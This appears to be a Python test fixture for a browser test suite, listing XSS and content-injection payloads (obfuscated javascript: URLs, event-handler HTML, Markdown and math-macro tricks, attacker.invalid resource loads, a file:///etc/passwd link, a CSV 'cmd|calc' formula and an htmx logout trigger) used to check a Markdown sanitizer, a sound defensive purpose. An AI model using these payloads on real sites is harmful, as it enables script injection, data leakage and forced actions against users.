"""Attacks on pages that show Markdown. Each tries to call `alert` or load from attacker.invalid."""

import json
import os
import shutil
import subprocess

from tests.browser.chromium import ROOT

URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;&#x61;vascript:alert(1)", "javascript&colon;alert(1)",
    "javascript://example.org/%0aalert(1)", "\x01javascript:alert(1)", " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:alert(1)", "blob:https://attacker.invalid/1", "file:///etc/passwd", "//attacker.invalid/",
    "filesystem:https://attacker.invalid/x", "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
    "javas%63ript:alert(1)", "\u2028javascript:alert(1)", "ｊavascript:alert(1)", "livescript:alert(1)",
]  # fmt: skip
HTML = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<audio src=https://attacker.invalid/a.mp3 autoplay></audio>", "<img src=https://attacker.invalid/a.png>",
    "<picture><source srcset=https://attacker.invalid/a.png><img></picture>", "<link rel=stylesheet href=https://attacker.invalid/a.css>",
    '<meta http-equiv=refresh content="0;url=https://attacker.invalid/">', "<base href=https://attacker.invalid/>",
    "<style>@import url(https://attacker.invalid/a.css)</style>", '<p style="background:url(https://attacker.invalid/a)">a</p>',
    "<form action=javascript:alert(1)><button>a</button></form>", "<object data=javascript:alert(1)></object>",
    "<embed src=https://attacker.invalid/a.swf>", "<math><mtext><img src onerror=alert(1)></mtext></math>",
    "<table background=https://attacker.invalid/a.png><tr><td>a</table>", "<marquee onstart=alert(1)>a</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<template><script>alert(1)</script></template>",
    "<div hx-get=/accounts/logout/ hx-trigger=load>a</div>", "<a data-hx-post=/a hx-on:load=alert(1)>a</a>",
    "</div></article></main><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php alert(1) ?>", "<a href=javascript:alert(1)>a</a>", "<br onclick=alert(1)>", "<br/><script>alert(1)</script>",
    "<x onclick=alert(1) style=position:fixed;inset:0>a</x>", "<dialog open>a</dialog>", "<textarea><img src=x onerror=alert(1)>",
]  # fmt: skip
MARKDOWN = [
    "![a](https://attacker.invalid/a.png?secret)", "![a][b]\n\n[b]: https://attacker.invalid/a.png",
    "[![a](https://attacker.invalid/a.png)](javascript:alert(1))", '[a](https://attacker.invalid "\\" onmouseover=alert(1) x=\\"")',
    "[a]\n\n[a]: javascript:alert(1)", "[__proto__]\n\n[__proto__]: javascript:alert(1)", "[constructor][constructor]",
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```', "```<img src=x onerror=alert(1)>\na\n```",
    "`<img src=x onerror=alert(1)>`", "    <script>alert(1)</script>", "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "| a |\n|:--\" onload=alert(1)|\n| b |", "# <img src=x onerror=alert(1)>", "- <img src=x onerror=alert(1)>\n- [ ] <script>alert(1)</script>",
    "> <iframe src=javascript:alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>", "**<img src=x onerror=alert(1)>**", "[<img src=x onerror=alert(1)>](https://example.org)",
    "\\(\\href{javascript:alert(1)}{a}\\) b\n\nc\n\nd", "$$\n\\includegraphics{https://attacker.invalid/a.png}\n$$\n\nb\n\nc",
    "\\(\\class{a\" onload=alert(1)}{b}\\)", "$$\n\\style{background:url(https://attacker.invalid/a)}{a}\n$$",
    "$$\n\\text{<img src=x onerror=alert(1)>}\n$$", "\\(\\url{javascript:alert(1)}\\)", "\\(\\data{onclick=alert(1)}{a}\\)",
    "$$\n\\def\\a{\\a\\a}\\a\n$$", "<https://attacker.invalid/\" onmouseover=alert(1)>", "https://example.org/\"onmouseover=alert(1)",
    "www.example.org/<script>alert(1)</script>", "[a](<javascript:alert(1)>)", "[a](https://user:alert(1)@attacker.invalid/)",
    "<details><summary><img src=x onerror=alert(1)></summary>\n\n<script>alert(1)</script>\n\n</details>",
    "<kbd><img src=x onerror=alert(1)></kbd> <kbd onclick=alert(1)>a</kbd>", "<details ontoggle=alert(1)>\na\n</details>",
    "[^<img/src=x/onerror=alert(1)>]\n\n[^<img/src=x/onerror=alert(1)>]: <script>alert(1)</script>",
    '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: [a](javascript:alert(1))', "$\\href{javascript:alert(1)}{a}$ b\n\nc\n\nd",
    "```csv\n<img src=x onerror=alert(1)>,=cmd|' /C calc'!A0\n\"<script>alert(1)</script>\",b\n```\n\nb\n\nc",
    "1. a\n<script>alert(1)</script>", "a<br><img src=x onerror=alert(1)>", "<<script>alert(1);//<</script>",
]  # fmt: skip
PAYLOADS = [
    *(f"[a]({url}) <{url}>" for url in URLS),
    *(f"[a](<{url}>) ![b]({url})" for url in URLS[:4]),
    *HTML,
    *(f"a {each} b" for each in HTML[:8]),
    *MARKDOWN,
]


def dompurify_fixtures() -> list[str]:
    """Return DOMPurify's own list of attacks, which its package contained up to 0.8.2."""
    file = ROOT / "node_modules/dompurify-fixtures/test/fixtures/expect.js"
    node = shutil.which("node") or str(ROOT / ".venv/bin/node")
    print_it = f"console.log(JSON.stringify(require({json.dumps(str(file))})))"
    done = subprocess.run(
        [node, "-e", print_it], env=os.environ, capture_output=True, text=True, check=True
    )
    return [each["payload"] for each in json.loads(done.stdout)]
